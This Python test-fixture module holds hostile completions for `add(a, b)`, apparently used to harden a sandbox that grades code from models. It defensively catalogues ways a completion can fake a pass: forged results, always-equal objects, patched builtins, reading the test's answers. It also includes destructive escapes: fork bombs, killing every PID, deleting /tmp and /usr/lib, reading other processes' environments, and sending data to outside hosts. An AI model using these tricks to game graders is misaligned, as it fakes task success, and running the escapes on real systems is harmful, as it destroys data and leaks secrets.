"""A suite of hostile completions for `add(a, b)`: each tries to pass without adding, or to harm the host.

Every attack returns wrong answers (or none) while trying to make the verdict "passed" anyway
(forged results, objects equal to everything, patched builtins, early exits, reading the test or the
dataset, protocol forgery) or to escape (fork and memory bombs, network, killing the harness, files
outside its scratch directory, leftover processes), or returns the right answers only when an escape
it tries works (moving to another CPU, memfd_secret): a pass is a hole. `{canary}`, `{port}` and
`{repo}` (this checkout) are filled in by the test.

Further groups, each a class of issue 12 (tests/sandbox/test_sandbox_*.py run them):
- CHANNELS: (writer, reader) pairs for state carried from one sample to a later one in the same
  worker: the writer is honest and leaves a mark; the reader adds correctly only when it finds it.
- CONCURRENT_CHANNELS: (holder, observer) pairs for signals between samples running at the same time
  on different workers (locks and change notifications on the read-only files every sample shares).
- MEMORY_HOARDS: each tries to hold 1.5 x its memory limit outside its address space (SysV shared
  memory, memfd, tmpfs files); it adds correctly only when it managed to.
- JUDGE_BOMBS: values (and tests) that make the trusted judge work: huge ranges, 10M empty sets, hash
  floods, huge ints, frames past the reply limit, Python-level and C-level work on candidate values.
- FORGED_FRAMES: replies written straight to the judge's pipe with the right nonce: lone surrogates,
  control characters, invalid UTF-8, oversized and malformed frames, huge exception names.
- CLEANUP_TRAPS: scratch trees that break naive cleanup (3000 deep, unreadable, symlink loops).
Used by tests/sandbox/test_sandbox_hostile.py, tests/sandbox/test_sandbox_isolation_classes.py and
tests/perf/bench_sandbox.py.
"""

from __future__ import annotations

CONTEXT = 'def add(a, b):\n    """Return a + b."""\n'
TEST = """
def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(-5, 5) == 0
    assert candidate(10, 20) == 30
    assert candidate(2, 2) == 4

check(add)
"""

ATTACKS: dict[str, str] = {
    "os_exit_before_asserts": "import os\nos._exit(0)\ndef add(a, b):\n    return 0\n",
    "posix_exit_in_call": "import posix\ndef add(a, b):\n    posix._exit(0)\n",
    "sys_exit_module": "import sys\nsys.exit(0)\n",
    "system_exit_in_call": "def add(a, b):\n    raise SystemExit(0)\n",
    "always_equal_object": (
        "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n    __hash__ = object.__hash__\n"
        "def add(a, b):\n    return AlwaysEqual()\n"
    ),
    "int_subclass_eq": (
        "class I(int):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return I(0)\n"
    ),
    "float_subclass_eq": (
        "class F(float):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return F(0)\n"
    ),
    "str_subclass_eq": (
        "class S(str):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return S('x')\n"
    ),
    "list_subclass_eq": (
        "class L(list):\n    def __eq__(self, o):\n        return True\n"
        "def add(a, b):\n    return L()\n"
    ),
    "patch_builtins": (
        "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {{}})\n"
        "builtins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\ndef add(a, b):\n    return 0\n"
    ),
    "patch_sys_modules": (
        "import sys, types\nfake = types.ModuleType('json')\nfake.loads = lambda *a, **k: 3\n"
        "fake.dumps = lambda *a, **k: '3'\nsys.modules['json'] = fake\ndef add(a, b):\n    return 0\n"
    ),
    "frame_walk_forge": (
        "import sys\ndef add(a, b):\n    f = sys._getframe()\n    while f is not None:\n"
        "        for k in list(f.f_locals):\n            if k in ('result', 'status', 'passed'):\n"
        "                f.f_locals[k] = 'passed'\n        f = f.f_back\n    return 0\n"
    ),
    "gc_forge_results": (
        "import gc\nfor o in gc.get_objects():\n    if isinstance(o, list) and o[:1] in (['failed'], ['timed out']):\n"
        "        o[:] = ['passed']\n    if isinstance(o, dict) and 'status' in o:\n        o['status'] = 'passed'\n"
        "def add(a, b):\n    return 0\n"
    ),
    "read_test_from_memory": (
        "import gc, re\ntable = {{}}\nfor o in gc.get_objects():\n    for s in ([o] if isinstance(o, str) else\n"
        "              [v for v in (o.values() if isinstance(o, dict) else []) if isinstance(v, str)]):\n"
        "        for a, b, c in re.findall(r'candidate\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', s):\n"
        "            table[(int(a), int(b))] = int(c)\n"
        "def add(a, b):\n    return table.get((a, b), 0)\n"
    ),
    "read_test_from_code_objects": (
        "import gc\nconsts = [c for o in gc.get_objects() if hasattr(o, 'co_consts') for c in o.co_consts\n"
        "          if isinstance(c, int)]\ndef add(a, b):\n    return consts[-1] if consts else 0\n"
    ),
    "read_dataset_and_evaluator_files": (
        "import glob, os\nfound = []\nfor pattern in ('/work/**/*.json*', '/root/**/HumanEval*', '/tmp/**/*.py',\n"
        "                '/home/**/*.py', '{repo}/sandbox/*.py'):\n"
        "    found += glob.glob(pattern, recursive=True)\n"
        "def add(a, b):\n    return len(found)\n"
    ),
    "settrace_swap": (
        "import sys\ndef tracer(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n"
        "        frame.f_locals['candidate'] = lambda a, b: a + b\n    return tracer\n"
        "sys.settrace(tracer)\ndef add(a, b):\n    return 0\n"
    ),
    "fork_bomb": (
        "import os\nfor _ in range(40):\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "fork_daemon_survivor": (
        "import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(120)\n"
        "        os._exit(0)\nexcept OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "thread_survivor": (
        "import threading, time\nthreading.Thread(target=time.sleep, args=(120,)).start()\n"
        "def add(a, b):\n    return 0\n"
    ),
    "subprocess_shell": (
        "import subprocess\ntry:\n    subprocess.Popen(['sh', '-c', 'sleep 120 & touch {canary}/pwned'])\n"
        "except OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "os_system": "import os\nos.system('touch {canary}/pwned_system')\ndef add(a, b):\n    return 0\n",
    "memory_bomb": "blob = bytearray(6 * 1024 ** 3)\ndef add(a, b):\n    return 0\n",
    "memory_bomb_in_call": "def add(a, b):\n    return len([0] * (10 ** 10))\n",
    "network_connect": (
        "import socket\nfor host in ('127.0.0.1', '1.1.1.1', '8.8.8.8'):\n    try:\n"
        "        socket.create_connection((host, {port}), timeout=1).sendall(b'leak')\n    except OSError:\n"
        "        pass\ndef add(a, b):\n    return 0\n"
    ),
    "unix_socket_connect": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('/run/systemd/private')\n"
        "except OSError:\n    pass\ndef add(a, b):\n    return 0\n"
    ),
    "kill_parent_and_init": (
        "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\ndef add(a, b):\n    return 0\n"
    ),
    "kill_every_pid": (
        "import os, signal\nfor pid in range(1, 400):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\ndef add(a, b):\n    return 0\n"
    ),
    "ctypes_kill": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.kill(-1, 9)\nlibc.kill(1, 9)\ndef add(a, b):\n    return 0\n"
    ),
    "write_outside_scratch": (
        "for path in ('{canary}/canary.txt', '/tmp/evk_attack_file', '{repo}/evk_attack_file',\n"
        "             '/root/evk_attack_file', '/usr/evk_attack_file'):\n    try:\n"
        "        open(path, 'w').write('pwned')\n    except OSError:\n        pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "delete_files": (
        "import os, shutil\nfor path in ('{canary}', '/tmp', '/usr/lib'):\n"
        "    shutil.rmtree(path, ignore_errors=True)\ndef add(a, b):\n    return 0\n"
    ),
    "fill_disk": (
        "n = 0\ntry:\n    while n < 200:\n        with open(f'big{{n}}', 'wb') as f:\n"
        "            f.write(b'x' * (16 * 1024 * 1024))\n        n += 1\nexcept OSError:\n    pass\n"
        "def add(a, b):\n    return 0\n"
    ),
    "read_other_process_memory": (
        "import os\nstolen = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
        "            stolen.append(open(f'/proc/{{pid}}/environ', 'rb').read())\n"
        "            stolen.append(open(f'/proc/{{pid}}/mem', 'rb').read(10))\n        except OSError:\n"
        "            pass\ndef add(a, b):\n    return len(stolen)\n"
    ),
    "become_root": (
        "import os\nfor f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.unshare(0x10000000)):\n"
        "    try:\n        f()\n    except (OSError, AttributeError):\n        pass\n"
        "def add(a, b):\n    return os.getuid()\n"
    ),
    "infinite_loop_module": "while True:\n    pass\n",
    "infinite_loop_in_call": "def add(a, b):\n    while True:\n        pass\n",
    "ignore_signals_and_spin": (
        "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU):\n"
        "    signal.signal(s, signal.SIG_IGN)\ndef add(a, b):\n    while True:\n        pass\n"
    ),
    "print_passed": (
        "import os, sys\nprint('passed')\nsys.stdout.write('{{\"passed\": true}}')\nos.write(1, b'passed')\n"
        "def add(a, b):\n    return 0\n"
    ),
    "forge_protocol_frames": (
        "import json, os, struct\nfor fd in range(3, 64):\n"
        "    for msg in (['x', 'ok', 3, None, 0.0], ['x', 'ready']):\n"
        "        data = json.dumps(msg).encode()\n        try:\n"
        "            os.write(fd, struct.pack('>I', len(data)) + data)\n"
        "        except OSError:\n            pass\ndef add(a, b):\n    return 0\n"
    ),
    "replace_child_codec": (
        "import sys\ncodec = sys.modules.get('sandbox._codec')\nif codec is not None:\n"
        "    codec.encode = lambda value, lenient=False: 3\ndef add(a, b):\n    return 0\n"
    ),
    "recursion_bomb": "def add(a, b):\n    return add(a, b)\n",
    "huge_output": "def add(a, b):\n    return 'x' * (10 ** 8)\n",
    "raise_name_error_for_fallback": "def add(a, b):\n    raise NameError('check')\n",
    "iterator_result": "def add(a, b):\n    return iter([a + b])\n",
}
ATTACKS.update({
    "memfd_secret": (
        "import ctypes\nfd = ctypes.CDLL(None, use_errno=True).syscall(447, 0)\n"
        "def add(a, b):\n    return a + b if fd >= 0 else 0\n"
    ),
    "cpu_affinity_escape": (
        "import os\nbefore = os.sched_getaffinity(0)\nmoved = False\n"
        "for cpu in range(os.cpu_count() or 1):\n    try:\n        os.sched_setaffinity(0, {{cpu}})\n"
        "        moved = moved or os.sched_getaffinity(0) != before\n    except OSError:\n        pass\n"
        "def add(a, b):\n    return a + b if moved else 0\n"
    ),
    "long_exception_type_name": (
        "def add(a, b):\n    raise type('E' * 10_000_000, (Exception,), {{}})('x' * 10_000_000)\n"
    ),
    "surrogates_in_exception": "def add(a, b):\n    raise ValueError('\\ud800\\udfff\\x1b[2J' * 1000)\n",
    "range_of_a_hundred_million": "def add(a, b):\n    return range(100_000_000)\n",
    "ten_million_empty_sets": "def add(a, b):\n    return [set() for _ in range(10_000_000)]\n",
    "hash_colliding_set": "def add(a, b):\n    return {{k * (2 ** 61 - 1) for k in range(1, 70_000)}}\n",
    "hash_colliding_list": "def add(a, b):\n    return [k * (2 ** 61 - 1) for k in range(1, 70_000)]\n",
    "huge_int": "def add(a, b):\n    return 1 << 10_000_000\n",
    "keyring_stash": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "made = libc.syscall(248, b'user', b'evk_leak', b'3', 1, -4) > 0\n"
        "def add(a, b):\n    return a + b if made else 0\n"
    ),
    "abstract_unix_socket": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.bind('\\0evk_leak')\n    bound = True\n"
        "except OSError:\n    bound = False\ndef add(a, b):\n    return a + b if bound else 0\n"
    ),
})

# -- state carried from one sample to a later one (same worker) -----------------------------------

_LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n"
_KEY = "KEY = 0x45564B31\n"
_MSG = "class Msg(ctypes.Structure):\n    _fields_ = [('kind', ctypes.c_long), ('text', ctypes.c_char * 8)]\n"
HONEST_ADD = "def add(a, b):\n    return a + b\n"
READER_ADD = "def add(a, b):\n    return a + b if leaked else 0\n"

CHANNELS: dict[str, tuple[str, str]] = {
    "sysv_shared_memory": (
        _LIBC + _KEY + "shmid = libc.shmget(KEY, 4096, 0o1666)\n"
        "addr = libc.shmat(shmid, None, 0) if shmid >= 0 else None\n"
        "if addr not in (None, ctypes.c_void_p(-1).value):\n    ctypes.memmove(addr, b'LEAK', 4)\n" + HONEST_ADD,
        _LIBC + _KEY + "shmid = libc.shmget(KEY, 4096, 0o666)\n"
        "addr = libc.shmat(shmid, None, 0) if shmid >= 0 else None\n"
        "leaked = addr not in (None, ctypes.c_void_p(-1).value) and ctypes.string_at(addr, 4) == b'LEAK'\n"
        + READER_ADD,
    ),
    "sysv_message_queue": (
        _LIBC + _KEY + _MSG + "qid = libc.msgget(KEY, 0o1666)\nif qid >= 0:\n"
        "    libc.msgsnd(qid, ctypes.byref(Msg(1, b'LEAK')), 8, 0o4000)\n"
        + HONEST_ADD,
        _LIBC + _KEY + _MSG + "qid = libc.msgget(KEY, 0o666)\nm = Msg()\n"
        "leaked = qid >= 0 and libc.msgrcv(qid, ctypes.byref(m), 8, 0, 0o4000) > 0 and m.text == b'LEAK'\n"
        + READER_ADD,
    ),
    "sysv_semaphore": (
        _LIBC + _KEY + "semid = libc.semget(KEY, 1, 0o1666)\nif semid >= 0:\n    libc.semctl(semid, 0, 16, 4242)\n"
        + HONEST_ADD,
        _LIBC + _KEY + "semid = libc.semget(KEY, 1, 0o666)\nleaked = semid >= 0 and libc.semctl(semid, 0, 12) == 4242\n"
        + READER_ADD,
    ),
    "posix_message_queue": (
        _LIBC + "class Attr(ctypes.Structure):\n    _fields_ = [('f', ctypes.c_long), ('maxmsg', ctypes.c_long), "
        "('msgsize', ctypes.c_long), ('cur', ctypes.c_long), ('pad', ctypes.c_long * 4)]\n"
        "q = libc.mq_open(b'/evk_leak', 0o102, 0o666, ctypes.byref(Attr(0, 1, 8, 0)))\n"
        "if q >= 0:\n    libc.mq_send(q, b'LEAK', 4, 0)\n" + HONEST_ADD,
        _LIBC + "q = libc.mq_open(b'/evk_leak', 0o4002)\nbuf = ctypes.create_string_buffer(16)\n"
        "leaked = q >= 0 and libc.mq_receive(q, buf, 16, None) == 4\n" + READER_ADD,
    ),
    "posix_shared_memory": (
        "import os\nfor path in ('/dev/shm/evk_leak', '/run/shm/evk_leak'):\n    try:\n"
        "        open(path, 'w').write('LEAK')\n    except OSError:\n        pass\n" + HONEST_ADD,
        "import os\nleaked = any(os.path.exists(p) for p in ('/dev/shm/evk_leak', '/run/shm/evk_leak'))\n"
        + READER_ADD,
    ),
    "files_in_every_writable_directory": (
        "import os\nfor top in ('/', os.getcwd(), os.path.expanduser('~')):\n"
        "    for root, dirs, files in os.walk(top):\n        dirs[:] = [d for d in dirs if d not in ('proc', 'sys')]\n"
        "        if os.access(root, os.W_OK):\n            try:\n"
        "                open(os.path.join(root, 'evk_leak'), 'w').write('LEAK')\n            except OSError:\n"
        "                pass\n" + HONEST_ADD,
        "import os\nleaked = False\nfor root, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if d not in ('proc', 'sys')]\n    leaked = leaked or 'evk_leak' in files\n"
        + READER_ADD,
    ),
    "kernel_keyring": (
        _LIBC + "libc.syscall(248, b'user', b'evk_leak', b'LEAK', 4, -4)\n" + HONEST_ADD,
        _LIBC + "leaked = libc.syscall(250, 10, -4, b'user', b'evk_leak', 0) > 0\n" + READER_ADD,
    ),
    "pid_counter": (  # threads take pids: the writer makes the next candidate's pid end in 777
        "import threading\nfor _ in range(5000):\n    t = threading.Thread(target=int)\n    t.start()\n"
        "    t.join()\n    if t.native_id % 1000 == 776:\n        break\n" + HONEST_ADD,
        "import os\nleaked = os.getpid() % 1000 == 777 or int(os.readlink('/proc/self')) % 1000 == 777\n"
        + READER_ADD,
    ),
    "other_processes_in_proc": (  # the judge's counters are readable through /proc when its pid is visible
        HONEST_ADD,
        "import os\nleaked = len([p for p in os.listdir('/proc') if p.isdigit()]) > 1\n" + READER_ADD,
    ),
}

# -- signals between samples running at the same time (two workers) --------------------------------

_SHARED_FILE = "import fcntl, os, struct, time\nSHARED = os.__file__\n"
_HOLD = "held = []\ndef add(a, b):\n    if not held:\n        held.append(time.sleep(1.5))\n    return a + b\n"
CONCURRENT_CHANNELS: dict[str, tuple[str, str]] = {
    "flock_on_a_shared_file": (
        _SHARED_FILE + "fd = os.open(SHARED, os.O_RDONLY)\ntry:\n    fcntl.flock(fd, fcntl.LOCK_EX)\n"
        "except OSError:\n    pass\n" + _HOLD,
        _SHARED_FILE + "fd = os.open(SHARED, os.O_RDONLY)\ndef seen():\n    for _ in range(15):\n"
        "        time.sleep(0.1)\n        try:\n            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
        "            fcntl.flock(fd, fcntl.LOCK_UN)\n        except BlockingIOError:\n            return True\n"
        "        except OSError:\n            return False\n    return False\nleaked = seen()\n" + READER_ADD,
    ),
    "fcntl_lock_on_a_shared_file": (
        _SHARED_FILE + "fd = os.open(SHARED, os.O_RDONLY)\ntry:\n"
        "    fcntl.fcntl(fd, fcntl.F_SETLK, struct.pack('hhqqi', fcntl.F_RDLCK, 0, 0, 0, 0))\n"
        "except OSError:\n    pass\n" + _HOLD,
        _SHARED_FILE + "fd = os.open(SHARED, os.O_RDONLY)\ndef seen():\n    for _ in range(15):\n"
        "        time.sleep(0.1)\n        try:\n"
        "            got = fcntl.fcntl(fd, fcntl.F_GETLK, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 0, 0, 0))\n"
        "        except OSError:\n            return False\n"
        "        if struct.unpack('hhqqi', got)[0] != fcntl.F_UNLCK:\n            return True\n"
        "    return False\nleaked = seen()\n" + READER_ADD,
    ),
    "inotify_on_a_shared_file": (
        _SHARED_FILE + "opened = []\ndef add(a, b):\n    while len(opened) < 30:\n"
        "        opened.append(os.close(os.open(SHARED, os.O_RDONLY)))\n        time.sleep(0.05)\n    return a + b\n",
        _SHARED_FILE + "import ctypes, select\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.inotify_init1(0)\n"
        "leaked = False\nif fd >= 0 and libc.inotify_add_watch(fd, SHARED.encode(), 0x20) >= 0:\n"
        "    leaked = bool(select.select([fd], [], [], 1.5)[0])\n" + READER_ADD,
    ),
}

# -- memory held outside the address-space limit --------------------------------------------------

_GOAL = "import resource\nGOAL = resource.getrlimit(resource.RLIMIT_AS)[0] * 3 // 2\nCHUNK = 8 << 20\nheld = 0\n"
MEMORY_HOARDS: dict[str, str] = {
    "sysv_shared_memory": (
        _LIBC + _GOAL + "while held < GOAL:\n    shmid = libc.shmget(0, CHUNK, 0o1600)\n"
        "    if shmid < 0:\n        break\n"
        "    addr = libc.shmat(shmid, None, 0)\n    if addr in (None, ctypes.c_void_p(-1).value):\n        break\n"
        "    ctypes.memset(addr, 1, CHUNK)\n    libc.shmdt(ctypes.c_void_p(addr))\n    held += CHUNK\n"
        "def add(a, b):\n    return a + b if held >= GOAL else 0\n"
    ),
    "memfd_pages": (  # one memfd per 8 MB: RLIMIT_FSIZE caps each file, not their number
        "import os\n" + _GOAL + "fds = []\nblock = b'x' * CHUNK\ntry:\n    while held < GOAL:\n"
        "        fds.append(os.memfd_create('hoard'))\n        held += os.write(fds[-1], block)\n"
        "except (OSError, MemoryError):\n    pass\n"
        "def add(a, b):\n    return a + b if held >= GOAL else 0\n"
    ),
    "tmpfs_files": (
        "import os\n" + _GOAL + "block = b'x' * CHUNK\ntry:\n    while held < GOAL:\n"
        "        with open(f'hoard{held}', 'wb') as f:\n            f.write(block)\n        held += CHUNK\n"
        "except (OSError, MemoryError):\n    pass\n"
        "def add(a, b):\n    return a + b if held >= GOAL else 0\n"
    ),
}

# -- work for the trusted judge: (solution, test) ------------------------------------------------

JUDGE_BOMBS: dict[str, tuple[str, str]] = {
    "range_materialised_by_the_test": (
        "def f():\n    return range(100_000_000)\n", "assert sorted(f()) == [1, 2, 3]\n"),
    "ten_million_empty_sets": (  # written straight to the pipe: 60 MB that would decode to 3 GB of sets
        "_FORGE" "def f():\n    _send(b'[\"NONCE\",\"ok\",[\"l\"' + b',[\"s\"]' * 10_000_000 + b'],null,0.0]')\n",
        "assert f() == []\n"),
    "hash_colliding_set": (  # 70k ints of one hash: building the set would take minutes
        "_FORGE" "def f():\n    items = ','.join(str(k * (2 ** 61 - 1)) for k in range(1, 70_000))\n"
        "    _send(b'[\"NONCE\",\"ok\",[\"s\",' + items.encode() + b'],null,0.0]')\n",
        "assert f() == set()\n"),
    "hash_colliding_list_made_a_set_by_the_test": (
        "def f():\n    return [k * (2 ** 61 - 1) for k in range(1, 70_000)]\n", "assert set(f()) == {1}\n"),
    "huge_int": ("def f():\n    return 1 << 10_000_000\n", "assert f() % 7 == 3\n"),
    "python_level_work_on_a_returned_number": (
        "def f():\n    return 10 ** 12\n", "total = 0\nfor i in range(f()):\n    total += i\nassert total == 0\n"),
    "memory_of_the_judge": ("def f():\n    return 'abcdefgh'\n", "assert f() * 10 ** 9 == ''\n"),
    "c_level_work_on_a_returned_number": (  # set() of colliding keys the test makes: 20+ s inside one C call
        "def f():\n    return 40_000\n", "xs = [k * (2 ** 61 - 1) for k in range(1, f())]\nassert len(set(xs)) > 0\n"),
}


# -- replies written straight to the judge's pipe, with the right nonce ---------------------------

_FORGE = (
    "import os, struct, sys\n"
    "def _channel():\n    f = sys._getframe(1)\n    while f is not None and 'request' not in f.f_locals:\n"
    "        f = f.f_back\n    return f.f_locals['request'][1], f.f_locals['resp_fd']\n"
    "def _send(raw):\n    nonce, fd = _channel()\n    body = raw.replace(b'NONCE', nonce.encode())\n"
    "    os.write(fd, struct.pack('>I', len(body)) + body)\n    os._exit(0)\n"
)
JUDGE_BOMBS = {name: (sol.replace("_FORGE", _FORGE, 1), test) for name, (sol, test) in JUDGE_BOMBS.items()}
FORGED_FRAMES: dict[str, str] = {
    "lone_surrogates_and_control_characters": _FORGE + (
        "def add(a, b):\n    _send(b'[\"NONCE\",\"exc\",\"ValueError\\\\ud800\",'\n"
        "          b'\"\\\\ud800\\\\udfff \\\\u001b[31m red \\\\u0000 nul \\\\ud83d\"]')\n"),
    "invalid_utf8": _FORGE + "def add(a, b):\n    _send(b'[\"NONCE\",\"exc\",\"\\xff\\xfe\",\"\\xc3\\x28\"]')\n",
    "oversized_announcement": (
        "import os, struct, sys\ndef add(a, b):\n    f = sys._getframe(1)\n"
        "    while 'resp_fd' not in f.f_locals:\n        f = f.f_back\n"
        "    os.write(f.f_locals['resp_fd'], struct.pack('>I', 2 ** 31) + b'[' * 1000)\n    os._exit(0)\n"),
    "huge_exception_name_within_the_frame_limit": _FORGE + (
        "def add(a, b):\n    _send(b'[\"NONCE\",\"exc\",\"' + b'E' * 6_000_000 + b'\",\"x\"]')\n"),
    "surrogate_in_a_returned_string": _FORGE + (
        "def add(a, b):\n    _send(b'[\"NONCE\",\"ok\",\"\\\\udc80\",null,0.0]')\n"),
    "json_object_and_nan": _FORGE + "def add(a, b):\n    _send(b'[\"NONCE\",\"ok\",{\"a\": NaN},null,0.0]')\n",
    "deeply_nested": _FORGE + (
        "def add(a, b):\n    _send(b'[\"NONCE\",\"ok\",' + b'[' * 200_000 + b']' * 200_000 + b',null,0.0]')\n"),
    "fake_setup_failure": _FORGE + "def add(a, b):\n    _send(b'[\"setup-failed\",\"the sandbox is broken\"]')\n",
}

# -- trees that break naive cleanup ----------------------------------------------------------------

CLEANUP_TRAPS: dict[str, str] = {
    "deep_tree_with_permission_traps": (
        "import os\nhold = bytearray(64 << 20)\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n"
        "    open('f', 'w').close()\n    os.chmod('f', 0)\n    if i % 500 == 0:\n"
        "        os.symlink('/', 'root')\n        os.symlink('.', 'loop')\n"
        "for i in range(3000):\n    os.chdir('..')\n    if i % 3 == 0:\n        os.chmod('d', 0)\n"
        "def add(a, b):\n    return a + b\n"
    ),
    "many_files": (
        "import os\ntry:\n    for i in range(200_000):\n        open(f'f{i}', 'w').close()\nexcept OSError:\n"
        "    pass\ndef add(a, b):\n    return a + b\n"
    ),
}

